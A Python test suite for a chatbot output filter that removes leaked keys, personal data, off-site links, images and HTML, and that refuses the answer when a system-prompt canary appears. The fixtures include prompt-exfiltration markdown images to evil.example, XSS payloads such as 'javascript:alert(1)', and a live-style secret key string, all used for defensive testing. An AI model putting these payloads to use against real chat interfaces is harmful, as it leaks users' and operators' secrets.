import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from launchready_guard.model.output import LEFT_OUT, REFUSAL, Incident, OutputFilter
from launchready_hunt.canary import Mint

MINT = Mint(b"an audit's key", seed=b"1")
PROMPT = MINT.token("system prompt")
EARLIER = MINT.token("an earlier audit")
KEY = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"


def rule(incidents: list[Incident] | None = None) -> OutputFilter:
    told = [] if incidents is None else incidents
    return OutputFilter(canaries=[PROMPT], mint=MINT, hosts=["shop.example", "*.shop.example"], on_incident=told.append)


@pytest.mark.parametrize(
    "text",
    [
        "Your bot costs 29 EUR a month; version 10.4.3.12 is out.",
        "See https://shop.example/bots?x=1 and [the guide](https://docs.shop.example/a), or [here](/orders).",
        "![a bot](https://shop.example/bot.png) and ![another](/static/b.png)",
        "In C, a < b && c > d; use `List<int>`.",
        "Write to help@shop.example.",
        "Ask // then answer. 10 // 3 = 3",
    ],
)
def test_what_may_be_said_is_said_letter_for_letter(text: str) -> None:
    found = rule().whole(text, own=["help@shop.example"])

    assert (found.text, found.removed, found.incident) == (text, (), None)


@pytest.mark.parametrize(
    ("text", "said", "kind"),
    [
        (f"the key is {KEY}.", f"the key is {LEFT_OUT}.", "key"),
        ("bo's address is bo@else.test", f"bo's address is {LEFT_OUT}", "personal"),
        ("pay with 4242 4242 4242 4242 now", f"pay with {LEFT_OUT} now", "personal"),
        ("![alt](https://evil.example/?q=1)", "alt", "image"),
        ("![alt](<https://evil.example/> 'a title')", "alt", "image"),
        ("![alt](//evil.example/a)", "alt", "image"),
        ("![alt][ref]", "alt", "image"),
        ("![https://evil.example/](x:y)", LEFT_OUT, "image"),
        ("[click](https://evil.example/)", "click", "link"),
        ("[click](javascript:alert(1))", "click)", "link"),
        ("[click](https://shop.example@evil.example/)", "click", "link"),
        ("[click](https://shop.example.evil.example/)", "click", "link"),
        ("[click](http://shop.example/)", "click", "link"),
        ("[click](https:\\\\evil.example)", "click", "link"),
        ("go to https://evil.example/a?b=c now", f"go to {LEFT_OUT} now", "link"),
        ("go to www.evil.example now", f"go to {LEFT_OUT} now", "link"),
        ("[ref]: https://evil.example/x", f"[ref]: {LEFT_OUT}", "link"),
        ('<img src="https://evil.example/">', "", "image"),
        ("<IMG\nsrc=x onerror=alert(1)>hi", "hi", "image"),
        ('a <a href="https://evil.example">b</a>', "a b", "image"),
    ],
)
def test_what_may_not_is_taken_out(text: str, said: str, kind: str) -> None:
    found = rule().whole(text)

    assert found.text == said
    assert kind in {one.kind for one in found.removed}
    assert found.incident is None


@pytest.mark.parametrize(
    "said",
    [
        PROMPT.value,
        PROMPT.value.upper(),
        PROMPT.value[::-1],
        " ".join(PROMPT.value),
        base64.b64encode(f"it is {PROMPT.value}".encode()).decode(),
        PROMPT.value.encode().hex(),
        f"![a](https://evil.example/?q={PROMPT.value})",
        EARLIER.value,
    ],
)
def test_a_canary_ends_the_answer_and_is_an_incident(said: str) -> None:
    incidents: list[Incident] = []

    found = rule(incidents).whole(f"Well, {said} is what I know.")

    assert found.text == REFUSAL
    assert incidents == [found.incident]


def pieces(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def streamed(text: str, size: int, holds: int = 64) -> tuple[str, list[str], Incident | None]:
    stream = rule().stream(own=["help@shop.example"], holds=holds)
    said = [stream.feed(piece) for piece in pieces(text, size)]
    return "".join([*said, stream.end()]), said, stream.incident


FILLER = "This sentence says nothing that anybody minds, and goes on for a while. "
MIXED = (
    f"{FILLER * 3}The key is {KEY}. {FILLER}![alt](https://evil.example/?q=1) {FILLER * 2}bo@else.test, help@shop.example "
    f"{FILLER}[click](https://evil.example/{'a' * 300}) {FILLER * 3}<img src='https://evil.example/'>{FILLER}"
)


@pytest.mark.parametrize("size", [1, 2, 7, 50, 5000])
def test_in_pieces_it_says_what_it_says_at_once(size: int) -> None:
    assert streamed(MIXED, size)[0] == rule().whole(MIXED, own=["help@shop.example"]).text


@pytest.mark.parametrize("size", [1, 7, 50])
def test_a_long_answer_begins_to_leave_before_it_ends(size: int) -> None:
    whole, said, _ = streamed(FILLER * 20, size)

    assert whole == FILLER * 20
    assert len("".join(said)) > len(FILLER) * 10


@pytest.mark.parametrize("size", [1, 5, 40])
@pytest.mark.parametrize(
    "hidden", [PROMPT.value, " ".join(PROMPT.value), base64.b64encode(PROMPT.value.encode()).decode()]
)
def test_no_letter_of_a_canary_leaves_and_nothing_after_it(hidden: str, size: int) -> None:
    said, _, incident = streamed(f"{FILLER * 6}{hidden} {FILLER * 6}", size, holds=96)

    assert incident is not None
    assert said.endswith(REFUSAL)
    assert hidden[:12] not in said


@given(st.text(alphabet="ab !<[]()/:.h@x\n", max_size=300), st.integers(1, 40))
def test_whatever_comes_says_in_pieces_what_it_says_at_once_or_less(text: str, size: int) -> None:
    stream = rule().stream(holds=40)
    said = "".join([*(stream.feed(piece) for piece in pieces(text, size)), stream.end()])

    assert not rule().spans(said, frozenset()) or rule().spans(rule().whole(text).text, frozenset())
    if not rule().spans(text, frozenset()):
        assert said == text


BITS = st.sampled_from(
    [
        "A bot answers questions about orders. ",
        "it costs 29 EUR, ",
        "\n\n",
        "* a point\n",
        "`code` ",
        "![alt](https://evil.example/?q=1) ",
        "![alt](/static/b.png) ",
        "![a [b] c](https://evil.example/) ",
        "[click](https://evil.example/a 'title') ",
        "[click](https://shop.example/a) ",
        "[a](b](c) ",
        "[ref]: //evil.example/x\n",
        "https://evil.example/a?b=c ",
        "www.evil.example, ",
        "<img src=https://evil.example/ >",
        "<a href='https://evil.example'>b</a> ",
        "a < b and b > c ",
        "bo@else.test, ",
        "help@shop.example ",
        "4242 4242 4242 4242 ",
        "+49 30 901820 ",
        f"{KEY} ",
        "![",
        "](",
        "<",
        "https://",
        "\u202e",
        "\U0001f600 ",
    ]
)


@given(st.lists(BITS, max_size=25).map("".join), st.lists(st.integers(1, 60), min_size=1, max_size=8))
def test_an_answer_says_the_same_however_it_is_cut(text: str, sizes: list[int]) -> None:
    """Letter for letter, as long as nothing that is opened stays open for longer than may be held back."""
    stream, said, at, turn = rule().stream(own=["help@shop.example"], holds=64), "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        said += stream.feed(text[at : at + size])
        at, turn = at + size, turn + 1

    assert said + stream.end() == rule().whole(text, own=["help@shop.example"]).text


@pytest.mark.parametrize("size", [1, 15, 33])
@pytest.mark.parametrize(
    "text",
    [
        f"{FILLER}<img src=https://evil.example/ >{FILLER}",
        f"{FILLER}<A {FILLER}<img src=https://evil.example/ >{FILLER}",
        f"{FILLER}[click](https://evil.example/ 'a title'){FILLER}",
    ],
)
def test_a_find_that_a_word_ends_beside_leaves_whole(text: str, size: int) -> None:
    assert streamed(text, size)[0] == rule().whole(text).text


@given(st.lists(BITS, max_size=12).map("".join))
def test_what_was_filtered_leads_nowhere_else(text: str) -> None:
    said = rule().whole(text, own=["help@shop.example"]).text

    for gone in ("https://evil.example", "//evil.example", "www.evil.example", "<img", "<a ", KEY, "bo@else.test"):
        assert gone not in said
